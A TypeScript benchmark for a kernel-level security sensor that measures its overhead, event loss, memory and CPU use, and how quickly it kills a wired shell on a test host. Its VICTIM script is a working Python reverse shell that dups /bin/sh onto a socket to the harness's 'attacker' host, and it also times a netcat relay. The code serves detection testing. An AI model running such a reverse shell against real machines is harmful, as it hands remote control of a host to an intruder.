// What the kernel sensor costs and how fast it is, in one test host: the same load with and without the daemon, in turns,
// as the median of paired ratios with its 95 % interval (a bar holds when the lower end is under it); the time from exec to
// death by what the attacker and the host saw; memory and CPU through it all. Prints; asserts nothing. Needs root.
// ALGO_BENCH_ROUNDS (10) and ALGO_BENCH_KILLS (100) shorten it; ALGO_BENCH_STORM_SECONDS (60) is the storm.
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { z } from "zod";
import { copyRelease, mustInstall, status, waitForScans } from "../test/host/product.ts";
import { bootHost, type Host } from "../test/host/testhost.ts";

const ROUNDS = Number(process.env["ALGO_BENCH_ROUNDS"] ?? "10");
const KILLS = Number(process.env["ALGO_BENCH_KILLS"] ?? "100");
const STORM_SECONDS = Number(process.env["ALGO_BENCH_STORM_SECONDS"] ?? "60");
const TICKS_PER_SECOND = 100;

interface Load {
  readonly name: string;
  /** Prints one number, the smaller the better. */
  readonly command: string;
  /** Percent; absent: reported only. */
  readonly bar?: number;
}

const BOTH_CORES = (command: string): string =>
  `(${command} & ${command} & wait) | awk '{ sum += $1 } END { print sum / NR }'`;
const LOADS: readonly Load[] = [
  { name: "fork+exec, one after the other", command: "/opt/load exec 1500", bar: 3 },
  { name: "fork+exec as fast as two cores can", command: BOTH_CORES("/opt/load exec 1500"), bar: 3 },
  { name: "a parallel C build (60 files, make -j2)", command: "bash /opt/build.sh", bar: 2 },
  { name: "any other system call (getppid)", command: "/opt/load syscall 3000000", bar: 0 },
  { name: "connections over loopback", command: "/opt/load connect 6000 7979" },
];

const beatSchema = z.looseObject({
  sensor: z
    .looseObject({
      beat: z
        .looseObject({ records: z.array(z.number()), lost: z.array(z.number()), recursionMisses: z.number() })
        .optional(),
    })
    .optional(),
});
const BUILD = `set -e
mkdir -p /opt/b && cd /opt/b && rm -f *.o
[ -f f60.c ] || for i in $(seq 60); do printf '#include <stdio.h>\\n#include <stdlib.h>\\n#include <string.h>\\nint f%s(int a){char b[99];snprintf(b,99,"%%d",a);return (int)strlen(b)+atoi(b);}\\n' $i >f$i.c; done
printf 'all: $(patsubst %%.c,%%.o,$(wildcard *.c))\\n' >Makefile
start=$(date +%s%N); make -s -j2; echo $(( ($(date +%s%N) - start) / 1000 ))
`;
const VICTIM = `import os, socket, sys, time
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
began = time.perf_counter_ns()
pid = os.posix_spawn("/bin/sh", ["sh"], {"PATH": "/usr/bin:/bin"}, file_actions=[(os.POSIX_SPAWN_DUP2, s.fileno(), n) for n in (0, 1, 2)])
os.waitpid(pid, 0)
print((time.perf_counter_ns() - began) // 1000, flush=True)
`;

const host = await bootHost();
try {
  await prepare(host);
  await copyRelease(host);
  await mustInstall(host);
  await waitForScans(host, 2);
  await programs(host);
  for (const load of LOADS) await part(load.name, () => compare(host, load));
  await part("first bytes", () => firstBytes(host));
  await part("exec storm", () => storm(host));
  await part("kills", () => kills(host));
  await part("rest", () => rest(host));
} finally {
  await host.stop();
}
process.exit();

/** What fails takes nothing of the others with it. */
async function part(name: string, run: () => Promise<void>): Promise<void> {
  try {
    await run();
  } catch (thrown) {
    console.log(
      `${name}: could not be measured: ${thrown instanceof Error ? thrown.message.slice(0, 400) : String(thrown)}`,
    );
  }
}

/** A connection of a tool made to relay is quiet for a moment. */
async function firstBytes(on: Host): Promise<void> {
  on.attacker.order({ do: "banner", port: 4556, banner: "220 ready" });
  const { address } = on.attacker;
  const name = "a relay tool (nc)";
  const command = `nc -w 2 ${address} 4556 </dev/null | head -c 3`;
  await on.writeFile(
    "/opt/first.sh",
    `for n in $(seq 20); do start=$(date +%s%N); ${command} >/dev/null; echo $(( ($(date +%s%N) - start) / 1000 )); done | sort -n | sed -n 10p`,
  );
  await compare(on, {
    name: `greeting heard by ${name}, us`,
    command: "systemd-run --quiet --pipe --wait bash /opt/first.sh",
  });
}

async function prepare(on: Host): Promise<void> {
  on.copyIn(join(import.meta.dir, "programs/load.c"), "/opt/load.c");
  await on.writeFile("/opt/build.sh", BUILD, 0o755);
  await on.must("gcc -O1 -o /opt/load /opt/load.c && bash /opt/build.sh");
}

async function measured(on: Host, load: Load): Promise<number> {
  return Number((await on.must(load.command, { timeoutMs: 300_000 })).trim());
}

async function compare(on: Host, load: Load): Promise<void> {
  const ratios: number[] = [];
  const without: number[] = [];
  for (let round = 0; round < ROUNDS; round++) {
    // In turns, and each order as often as the other.
    const order = round % 2 === 0 ? ([true, false] as const) : ([false, true] as const);
    const found = new Map<boolean, number>();
    for (const isOn of order) {
      await turn(on, isOn);
      found.set(isOn, await measured(on, load));
    }
    ratios.push((found.get(true) ?? 0) / (found.get(false) ?? 1));
    without.push(found.get(false) ?? 0);
  }
  const { median, low, high } = interval(ratios);
  const percent = (ratio: number): string => `${((ratio - 1) * 100).toFixed(1)} %`;
  const bar = load.bar === undefined ? "" : `, bar +${load.bar} %: ${(low - 1) * 100 <= load.bar ? "holds" : "MISSED"}`;
  console.log(
    `${load.name}: ${percent(median)} slower (95 %: ${percent(low)} to ${percent(high)}, ${ROUNDS} rounds; without it ${interval(without).median.toFixed(0)})${bar}`,
  );
}

/**
 * What the kernel itself counts of the time in each program, while two cores fork and execute: free of the noise of whatever
 * else this machine does. The statistics cost some of what they count.
 */
async function programs(on: Host): Promise<void> {
  const script = `sysctl -q -w kernel.bpf_stats_enabled=1
    read_stats() { cat /proc/$(pgrep -x algo-sensor)/fdinfo/* 2>/dev/null | awk '/^run_time_ns/ { sum += $2 } END { printf "%.0f\\n", sum }'; }
    before=$(read_stats); start=$(date +%s%N)
    (/opt/load exec 3000 & /opt/load exec 3000 & wait) >/dev/null
    end=$(date +%s%N); after=$(read_stats); sysctl -q -w kernel.bpf_stats_enabled=0
    echo $((after - before)) $((end - start))`;
  await turn(on, true);
  const [insideNs = 0, elapsedNs = 1] = (await on.must(script, { timeoutMs: 120_000 })).trim().split(/\s+/).map(Number);
  const each = insideNs / 6_000;
  console.log(
    `kernel programs, 6000 times fork+exec+exit on two cores: ${(each / 1_000).toFixed(2)} us each, ${((insideNs / (2 * elapsedNs)) * 100).toFixed(2)} % of both cores`,
  );
}

/** The service itself, so that everything of it counts. */
async function turn(on: Host, isOn: boolean): Promise<void> {
  await on.must(
    `systemctl ${isOn ? "start" : "stop"} algo-monitor || { journalctl -u algo-monitor -n 30 -o cat --no-pager >&2; exit 1; }`,
  );
  if (isOn)
    await on.must("for i in $(seq 100); do pgrep -x algo-sensor >/dev/null && break; sleep 0.1; done; sleep 1.5");
}

/** Of the median, by order statistics of the sign test. */
function interval(values: readonly number[]): { readonly median: number; readonly low: number; readonly high: number } {
  const sorted = values.toSorted((left, right) => left - right);
  const count = sorted.length;
  const middle = (sorted[Math.floor((count - 1) / 2)] ?? 0) / 2 + (sorted[Math.ceil((count - 1) / 2)] ?? 0) / 2;
  const reach = Math.max(0, Math.floor(count / 2 - 0.98 * Math.sqrt(count)));
  return { median: middle, low: sorted[reach] ?? middle, high: sorted[count - 1 - reach] ?? middle };
}

/** No exec may be lost: each gives three records (fork, exec, exit). */
async function storm(on: Host): Promise<void> {
  await turn(on, true);
  const before = await beat(on);
  const usage = await usageOf(on);
  const script = `end=$((SECONDS + ${STORM_SECONDS})); for core in 1 2; do (n=0; while [ $SECONDS -lt $end ]; do /opt/load exec 500 >/dev/null; n=$((n + 501)); done; echo $n) & done; wait`;
  const counts = (await on.must(script, { timeoutMs: STORM_SECONDS * 1_000 + 60_000 })).trim().split("\n").map(Number);
  const executed = counts.reduce((sum, count) => sum + count, 0);
  await Bun.sleep(2_500);
  const after = await beat(on);
  const lost = after.lost.map((count, lane) => count - (before.lost[lane] ?? 0));
  const used = await usageOf(on);
  console.log(
    `exec storm of ${STORM_SECONDS} s: ${executed} programs (${Math.round(executed / STORM_SECONDS)} a second), lost by lane ${lost.join(" ")}, hooks missed ${after.recursionMisses - before.recursionMisses}; daemon and sensor ${used.rssMb.toFixed(1)} MB at its end (bar 110), ${(((used.cpuSeconds - usage.cpuSeconds) / STORM_SECONDS) * 100).toFixed(1)} % of a core`,
  );
}

async function beat(on: Host): Promise<{ records: number[]; lost: number[]; recursionMisses: number }> {
  for (let attempt = 0; attempt < 20; attempt++) {
    const found = beatSchema.parse(JSON.parse(await on.must("algo-monitor status --json"))).sensor?.beat;
    if (found !== undefined) return found;
    await Bun.sleep(500);
  }
  throw new Error("bench: the sensor does not run");
}

async function usageOf(on: Host): Promise<{ readonly rssMb: number; readonly cpuSeconds: number }> {
  const lines = await on.must(
    "for name in algo-monitor algo-sensor; do pid=$(pgrep -x $name | head -1); awk '/VmRSS/ { print $2 }' /proc/$pid/status; awk '{ print $14 + $15 }' /proc/$pid/stat; done",
  );
  const [daemonKb = 0, daemonTicks = 0, sensorKb = 0, sensorTicks = 0] = lines.trim().split("\n").map(Number);
  return { rssMb: (daemonKb + sensorKb) / 1024, cpuSeconds: (daemonTicks + sensorTicks) / TICKS_PER_SECOND };
}

/**
 * A shell wired to a connection that would write the time into a file as its first act, and before that the time at
 * which its parent executes it. From the exec to the end as the parent sees it, and whether the file is there.
 */
async function kills(on: Host): Promise<void> {
  const { attacker } = on;
  attacker.order({ do: "banner", port: 4555, banner: "date +%s%N >/tmp/acted; id" });
  await on.writeFile("/opt/victim.py", VICTIM, 0o755);
  const lines = await on.must(
    // Who held the connection dies a moment after the shell: each has its own.
    `for n in $(seq ${KILLS}); do systemd-run --quiet --pipe --wait --collect python3 /opt/victim.py ${attacker.address} 4555 || true; done`,
    { timeoutMs: 300_000 },
  );
  const times = lines
    .trim()
    .split("\n")
    .map(Number)
    .filter((microseconds) => Number.isFinite(microseconds));
  const sorted = times.toSorted((left, right) => left - right);
  const at = (share: number): number => sorted[Math.min(sorted.length - 1, Math.floor(sorted.length * share))] ?? 0;
  const acted = existsSync(join(on.root, "tmp/acted"))
    ? readFileSync(join(on.root, "tmp/acted"), "utf8").trim()
    : "none";
  console.log(
    `fork, exec and death of a wired shell, ${times.length} times: median ${at(0.5)} us, 99 % ${at(0.99)} us; acts of a victim: ${acted}`,
  );
}

async function rest(on: Host): Promise<void> {
  await turn(on, true);
  await Bun.sleep(20_000);
  const before = await usageOf(on);
  await Bun.sleep(60_000);
  const after = await usageOf(on);
  const { self } = await status(on);
  console.log(
    `at rest for a minute: daemon and sensor ${after.rssMb.toFixed(1)} MB, ${(((after.cpuSeconds - before.cpuSeconds) / 60) * 100).toFixed(2)} % of a core (bar 1 %); the daemon alone says ${(self.rssBytes / 1e6).toFixed(1)} MB`,
  );
}
